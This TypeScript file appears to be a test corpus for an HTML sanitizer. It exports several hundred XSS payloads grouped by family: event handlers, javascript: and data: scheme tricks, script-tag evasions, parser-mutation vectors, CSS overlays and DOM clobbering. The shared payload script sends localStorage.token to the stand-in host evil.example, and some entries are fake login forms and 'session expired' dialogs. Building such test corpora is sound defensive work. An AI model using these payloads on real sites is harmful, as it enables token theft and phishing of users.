/** The host that an escaped payload would call. */
export const elsewhere = 'evil.example'

/** The script of every payload: it marks the window, opens a dialog and calls another host. */
const run = `window.hasRun=(window.hasRun||0)+1;alert(1);fetch('https://${elsewhere}/x?'+localStorage.token)`
const inAttribute = run.replaceAll("'", '&#39;')

const tags =
  'img svg video audio input body iframe object details a div marquee select textarea math table custom-x p'.split(' ')
const events = 'onerror onload onfocus onmouseover ontoggle onanimationstart onbegin onclick onpointerenter'.split(' ')

const handlers = tags.flatMap((tag) =>
  events.map((event) => `<${tag} src=x href=x open autofocus tabindex=0 ${event}="${inAttribute}">a</${tag}>`),
)

const schemes = [
  'javascript:',
  'JaVaScRiPt:',
  'java\tscript:',
  'java\nscript:',
  ' javascript:',
  '\u0001javascript:',
  'javascript&colon;',
  '&#106;avascript:',
  '&#x6A&#x61vascript:',
  'vbscript:',
  'livescript:',
  'view-source:javascript:',
  'feed:javascript:',
  'data:text/html,<script>',
  'data:text/html;base64,PHNjcmlwdD4',
  'data:image/svg+xml,<svg onload=x>',
  `blob:https://${elsewhere}/`,
  'filesystem:http://a/',
  'file:///etc/passwd#',
]
const carriers = [
  (to: string) => `<a href="${to}${inAttribute}">a</a>`,
  (to: string) => `<a target="_self" href='${to}${inAttribute}'><b>a</b></a>`,
  (to: string) => `<area shape=default href="${to}${inAttribute}">`,
  (to: string) => `<iframe src="${to}${inAttribute}"></iframe>`,
  (to: string) => `<form action="${to}${inAttribute}"><button autofocus>a</button></form>`,
  (to: string) => `<svg><a xlink:href="${to}${inAttribute}"><text y=9>a</text></a></svg>`,
  (to: string) => `<object data="${to}${inAttribute}"></object><embed src="${to}${inAttribute}">`,
]
const addressed = schemes.flatMap((scheme) => carriers.map((carry) => carry(scheme)))

const scripts = [
  `<script>${run}</script>`,
  `<SCRIPT SRC=https://${elsewhere}/x.js></SCRIPT>`,
  `<script src="data:text/javascript,${inAttribute}"></script>`,
  `<script type=module>import 'https://${elsewhere}/x.js'</script>`,
  `<script type=importmap>{"imports":{"a":"https://${elsewhere}/x.js"}}</script>`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `<script/x>${run}</script>`,
  `<script\u0000>${run}</script>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><script href="data:text/javascript,${inAttribute}"/></svg>`,
  `<template><script>${run}</script></template>`,
  `<template><template><img src=x onerror="${inAttribute}"></template></template>`,
  `<div><template shadowrootmode=open><script>${run}</script></template></div>`,
  `<iframe srcdoc="<script>parent.hasRun=1</script>"></iframe>`,
  `<iframe srcdoc="&lt;img src=x onerror=parent.hasRun=1&gt;" sandbox="allow-scripts allow-same-origin"></iframe>`,
  `<meta http-equiv=refresh content="0;url=https://${elsewhere}/">`,
  `<meta http-equiv=refresh content="0;url=javascript:${inAttribute}">`,
  `<meta http-equiv=Set-Cookie content="a=b">`,
  `<base href="https://${elsewhere}/">`,
  `<base href="https://${elsewhere}/"><img src="a.png"><a href="b">c</a>`,
  `<link rel=stylesheet href="https://${elsewhere}/x.css">`,
  `<link rel=prefetch href="https://${elsewhere}/x"><link rel=preconnect href="https://${elsewhere}/">`,
  `<link rel=manifest href="https://${elsewhere}/m"><link rel=modulepreload href="https://${elsewhere}/m.js">`,
  `<form action="https://${elsewhere}/"><input name=password type=password><button>Se connecter</button></form>`,
  `<button formaction="https://${elsewhere}/" type=submit>a</button>`,
  `<button popovertarget=chat popovertargetaction=show>a</button><div popover id=chat>b</div>`,
  `<input type=image src="https://${elsewhere}/i.png">`,
  `<isindex type=image src=1 onerror="${inAttribute}">`,
  `<keygen autofocus onfocus="${inAttribute}">`,
  `<dialog open><h1>Session expirée</h1></dialog>`,
]

const mutations = [
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${inAttribute}&gt;">`,
  `<svg></p><style><a id="</style><img src=1 onerror=${inAttribute}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${inAttribute}>`,
  `<noscript><p title="</noscript><img src=x onerror=${inAttribute}>">`,
  `<noembed><img title="</noembed><img src=x onerror=${inAttribute}>"></noembed>`,
  `<noframes><img title="</noframes><img src=x onerror=${inAttribute}>"></noframes>`,
  `<xmp><p title="</xmp><img src=x onerror=${inAttribute}>"></xmp>`,
  `<textarea><p title="</textarea><img src=x onerror=${inAttribute}>"></textarea>`,
  `<title><p title="</title><img src=x onerror=${inAttribute}>"></title>`,
  `<style><p title="</style><img src=x onerror=${inAttribute}>"></style>`,
  `<!--><img src=x onerror=${inAttribute}>-->`,
  `<!--!><img src=x onerror=${inAttribute}>-->`,
  `<!-- --!><img src=x onerror=${inAttribute}> -->`,
  `<![CDATA[><img src=x onerror=${inAttribute}>]]>`,
  `<?xml version="1.0"?><img src=x onerror=${inAttribute}>`,
  `<svg><![CDATA[><img src=x onerror=${inAttribute}>]]></svg>`,
  `<svg><foreignObject><img src=x onerror=${inAttribute}></foreignObject></svg>`,
  `<svg><desc><img src=x onerror=${inAttribute}></desc></svg>`,
  `<svg><title><img src=x onerror=${inAttribute}></title></svg>`,
  `<math><annotation-xml encoding="text/html"><img src=x onerror=${inAttribute}></annotation-xml></math>`,
  `<math><mi href="javascript:${inAttribute}">a</mi></math>`,
  `<math><maction actiontype=statusline xlink:href="javascript:${inAttribute}">a</maction></math>`,
  `<svg><use href="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4#x"/></svg>`,
  `<svg><use href="https://${elsewhere}/x.svg#y"/></svg>`,
  `<svg><image href="https://${elsewhere}/x.png"/></svg>`,
  `<svg><feImage href="https://${elsewhere}/x.png"/></svg>`,
  `<svg><animate onbegin="${inAttribute}" attributeName=x dur=1s></svg>`,
  `<svg><a><animate attributeName=href values="javascript:${inAttribute}"/><text y=9>a</text></a></svg>`,
  `<svg><set attributeName=href to="javascript:${inAttribute}"/></svg>`,
  `<a><svg><a href=x><style><img src=x onerror=${inAttribute}></style></a></svg></a>`,
  `<select><template><style><!--</style><img src=x onerror=${inAttribute}>--></template></select>`,
  `<table><caption><svg><p><style><img src=x onerror=${inAttribute}>`,
  `<b><table><tr><td><b><img src=x onerror=${inAttribute}></table>`,
  `<p><svg><p></svg><img src=x onerror=${inAttribute}>`,
  `<frameset onload="${inAttribute}"><frame src="javascript:${inAttribute}"></frameset>`,
  `<img src="x\`\`onerror=${inAttribute}"><img src='x' alt='\`\`onerror=${inAttribute}'>`,
  `<img/src=x/onerror=${inAttribute}//>`,
  `<img src=x onerror\u000c=${inAttribute}>`,
  `<img src=x:x onerror\n=\n"${inAttribute}">`,
  `<<img src=x onerror=${inAttribute}>`,
  `"><img src=x onerror=${inAttribute}>`,
  `</div></main></body></html><script>${run}</script>`,
  `</style></script></textarea></title><img src=x onerror=${inAttribute}>`,
  `{{constructor.constructor('${inAttribute}')()}}`,
  `\${${run}}`,
  `&lt;script&gt;${run}&lt;/script&gt;`,
  `&amp;lt;img src=x onerror=${inAttribute}&amp;gt;`,
  `+ADw-script+AD4-${run}+ADw-/script+AD4-`,
  `%3Cscript%3E${run}%3C/script%3E`,
]

const overlays = [
  'position:fixed;inset:0;z-index:99999;background:red',
  'position:absolute;top:0;left:0;width:100vw;height:100vh',
  'position:sticky;top:0;height:100vh',
  'margin:-9999px;padding:9999px',
  'transform:translate(-50vw,-90vh) scale(40)',
  'width:500vw',
  `background:url(https://${elsewhere}/b.png)`,
  `list-style:url(https://${elsewhere}/l.png)`,
  `cursor:url(https://${elsewhere}/c.png),auto`,
  'behavior:url(x.htc);-moz-binding:url(x.xml#a)',
].flatMap((css) => [
  `<p style="${css}">a</p>`,
  `<style>main,body,p,a{${css}}</style>`,
  `<font style="${css}" color=red>a</font>`,
])

const clobbering = [
  '<img name=getElementById><img name=cookie><form name=body></form>',
  '<a id=trustedTypes></a><a id=localStorage></a><a id=__TSR__></a>',
  '<form id=root><input name=attributes><input name=nodeName></form>',
  '<div id=root data-page="/" data-locale="en">a</div>',
  '<p class="shell visually-hidden" id=contenu tabindex=-1 contenteditable accesskey=s>a</p>',
  '<div role=dialog aria-modal=true aria-label="Session expirée">a</div>',
  '<div slot=a part=b is=c itemprop=d xmlns:x=e xlink:href=f>a</div>',
  '<video poster="https://evil.example/p.png"><source src="https://evil.example/v.mp4"><track src="https://evil.example/t.vtt"></video>',
  '<picture><source srcset="https://evil.example/s.png"><img srcset="https://evil.example/s2.png 2x" alt=a></picture>',
  '<table background="https://evil.example/t.png"><tr><td background="https://evil.example/u.png">a</table>',
  '<body background="https://evil.example/w.png" bgcolor=red onpageshow="window.hasRun=1">',
  '<a href="https://evil.example/" ping="https://evil.example/ping" target=_top rel=opener download>a</a>',
  '<a href="//evil.example/">a</a><a href="/\\evil.example/">a</a><a href="\\\\evil.example">a</a>',
  '<a href="https://user:pass@evil.example/">a</a>',
  '<plaintext>a',
]

/** All payloads by family. */
export const hostileHtml: readonly string[] = [
  ...handlers,
  ...addressed,
  ...scripts,
  ...mutations,
  ...overlays,
  ...clobbering,
]
